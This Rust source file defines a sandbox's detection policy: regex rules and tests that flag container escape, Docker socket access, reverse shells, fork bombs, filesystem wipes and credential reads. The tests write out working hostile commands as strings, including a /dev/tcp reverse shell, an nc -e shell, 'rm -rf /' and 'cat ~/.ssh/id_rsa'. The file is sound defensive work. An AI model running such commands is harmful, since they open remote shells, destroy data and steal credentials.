//! The code policy: per-language patterns that flag code trying what a
//! sandboxed program has no business doing (escaping the container, reaching
//! the Docker socket, opening a reverse shell, fork bombs, …). It is a
//! tripwire over the real boundary (the container, seccomp, no network), not
//! the boundary: patterns are easy to evade, and code that matches would
//! still be stopped by the container. In `audit` mode (the default) a match
//! is recorded as a violation and the code runs; in `block` mode it is refused
//! with the rule's name.

use crate::runtime::Language;
use regex::bytes::{Regex, RegexBuilder};
use std::sync::OnceLock;

/// What happens when code matches a rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq, strum::IntoStaticStr, strum::EnumString)]
#[strum(serialize_all = "lowercase")]
pub enum PolicyMode {
    /// Record a violation; run the code.
    Audit,
    /// Refuse the code, naming the rule.
    Block,
    /// No checks.
    Off,
}

impl PolicyMode {
    pub fn parse(value: &str) -> Option<Self> {
        value.parse().ok()
    }

    pub fn name(self) -> &'static str {
        self.into()
    }
}

/// One rule.
pub struct Rule {
    pub id: &'static str,
    /// What the pattern is a sign of, in plain words.
    pub description: &'static str,
    /// Languages the rule applies to; empty means every language.
    pub languages: &'static [Language],
    pattern: Regex,
}

/// A rule that matched, with the text that matched.
#[derive(Debug, Clone, PartialEq)]
pub struct Violation {
    pub rule: &'static str,
    pub description: &'static str,
    pub matched: String,
}

const ALL: &[Language] = &[];
const PYTHON: &[Language] = &[Language::Python];
const NODE: &[Language] = &[Language::JavaScript, Language::TypeScript];
const BASH: &[Language] = &[Language::Bash];
const NATIVE: &[Language] = &[Language::Python, Language::Go, Language::Rust];

/// (id, description, languages, pattern)
const RULES: &[(&str, &str, &[Language], &str)] = &[
    (
        "docker-socket",
        "reaches for the Docker socket (control of the host's containers)",
        ALL,
        r"docker\.sock|/var/run/docker|/run/containerd",
    ),
    (
        "reverse-shell",
        "opens a shell over the network",
        ALL,
        r"/dev/(tcp|udp)/|\bnc(at)?\b[^\n;|&]*\s-(e|c)\s|\bbash\s+-i\s+>&|\bsocat\b.*\bexec:",
    ),
    (
        "fork-bomb",
        "starts processes without end",
        BASH,
        r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
    ),
    (
        "fork-loop",
        "forks in an endless loop",
        PYTHON,
        r"while\s+(True|1)\s*:(.|\n){0,120}os\.fork\(\)",
    ),
    (
        "wipe-root",
        "deletes the whole filesystem",
        ALL,
        r"\brm\s+((-[a-zA-Z]+|--[a-z-]+)\s+)*?(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\s+((-[a-zA-Z]+|--[a-z-]+)\s+)*/\*?(\s|;|&|$)",
    ),
    (
        "namespace-escape",
        "tries to create or enter namespaces, mount, or trace processes",
        ALL,
        r"\b(unshare|setns|pivot_root|nsenter)\b|\bmount\s+-t\b|\bptrace\s*\(|PTRACE_(ATTACH|TRACEME|SEIZE)",
    ),
    (
        "kernel-interface",
        "reaches kernel interfaces a sandbox never needs (modules, keyrings, bpf, kexec)",
        ALL,
        r"\b(insmod|modprobe|finit_module|kexec_load|kexec_file_load|keyctl|perf_event_open|userfaultfd)\b|\bbpf\s*\(",
    ),
    (
        "host-secrets",
        "looks for credentials of the host or its user",
        ALL,
        r"\.ssh/id_|\.aws/credentials|\.docker/config\.json|/etc/shadow|/proc/1/(environ|root)",
    ),
    (
        "raw-syscall",
        "issues raw system calls",
        NATIVE,
        r"\.syscall\(|syscall\.(RawSyscall6?|Syscall6?)\(|libc::syscall\(",
    ),
    (
        "process-internals",
        "uses Node's internal process bindings",
        NODE,
        r"process\.binding\(|process\._linkedBinding\(",
    ),
    (
        "crypto-miner",
        "looks like a cryptocurrency miner",
        ALL,
        r"stratum\+(tcp|ssl)://|\bxmrig\b|\bminerd\b",
    ),
];

/// Compiles the rules now (about 1.5 ms), so that the first execute does
/// not wait for it; the server calls this before it answers `initialize`.
/// Returns how many rules compiled.
pub fn compile() -> usize {
    rules().len()
}

fn rules() -> &'static [Rule] {
    static COMPILED: OnceLock<Vec<Rule>> = OnceLock::new();
    COMPILED.get_or_init(|| {
        RULES
            .iter()
            // ASCII word boundaries keep matching linear and fast on any text.
            .filter_map(|(id, description, languages, pattern)| {
                match RegexBuilder::new(pattern).unicode(false).build() {
                    Ok(pattern) => Some(Rule {
                        id,
                        description,
                        languages,
                        pattern,
                    }),
                    Err(error) => {
                        tracing::error!(rule = id, %error, "policy rule does not compile; skipped");
                        None
                    }
                }
            })
            .collect()
    })
}

/// Every rule `code` in `language` matches.
pub fn check(language: Language, code: &str) -> Vec<Violation> {
    rules()
        .iter()
        .filter(|rule| rule.languages.is_empty() || rule.languages.contains(&language))
        .filter_map(|rule| {
            let found = rule.pattern.find(code.as_bytes())?;
            Some(Violation {
                rule: rule.id,
                description: rule.description,
                matched: String::from_utf8_lossy(found.as_bytes()).chars().take(120).collect(),
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(language: Language, code: &str) -> Vec<&'static str> {
        check(language, code).into_iter().map(|v| v.rule).collect()
    }

    #[test]
    fn every_rule_compiles() {
        assert_eq!(compile(), RULES.len());
    }

    #[test]
    fn hostile_code_is_flagged() {
        assert_eq!(ids(Language::Bash, ":(){ :|:& };:"), ["fork-bomb"]);
        assert_eq!(ids(Language::Bash, "rm -rf / --no-preserve-root"), ["wipe-root"]);
        assert_eq!(ids(Language::Bash, "rm -rf --no-preserve-root /"), ["wipe-root"]);
        assert_eq!(
            ids(Language::Bash, "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
            ["reverse-shell"]
        );
        assert_eq!(ids(Language::Python, "open('/var/run/docker.sock')"), ["docker-socket"]);
        assert_eq!(ids(Language::Bash, "unshare -r bash"), ["namespace-escape"]);
        assert_eq!(
            ids(Language::Python, "import ctypes\nctypes.CDLL(None).syscall(272, 0)"),
            ["raw-syscall"]
        );
        assert_eq!(
            ids(Language::JavaScript, "process.binding('spawn_sync')"),
            ["process-internals"]
        );
        assert_eq!(ids(Language::Go, "syscall.RawSyscall(1, 0, 0, 0)"), ["raw-syscall"]);
        assert_eq!(ids(Language::Bash, "cat ~/.ssh/id_rsa"), ["host-secrets"]);
        assert_eq!(ids(Language::Bash, "rm --recursive --force /"), ["wipe-root"]);
        assert_eq!(ids(Language::Bash, "rm -f -r /*"), ["wipe-root"]);
        assert_eq!(ids(Language::Bash, "nc 10.0.0.1 4242 -e /bin/sh"), ["reverse-shell"]);
        assert_eq!(
            ids(
                Language::Python,
                "import os\nwhile True:\n    if os.fork() == 0:\n        pass"
            ),
            ["fork-loop"]
        );
        assert_eq!(ids(Language::Python, "libc.bpf(1)"), ["kernel-interface"]);
    }

    #[test]
    fn ordinary_code_is_not_flagged() {
        for (language, code) in [
            (Language::Python, "import pandas as pd\nprint(pd.DataFrame({'a': [1]}))"),
            (Language::Bash, "rm -rf ./build /tmp/out && mkdir -p build"),
            (Language::Bash, "ls -la / && df -h"),
            (
                Language::JavaScript,
                "const fs = require('fs'); console.log(fs.readdirSync('.'))",
            ),
            (Language::Rust, "fn main() { println!(\"mount point\"); }"),
            (Language::Go, "fmt.Println(\"hello\")"),
            (Language::Python, "keys.add_key('a')\nfabric.init_module()"),
            (Language::Python, "import ctypes\nctypes.CDLL(None).malloc_trim(0)"),
            (
                Language::Python,
                "import subprocess\nsubprocess.run(['ls'])\nimport requests",
            ),
            (Language::Bash, "rm -rf /tmp/build; rm -r ./out/"),
            (Language::Python, "print('héllo wörld, naïve café')"),
        ] {
            assert!(ids(language, code).is_empty(), "{language:?}: {code}");
        }
    }
}
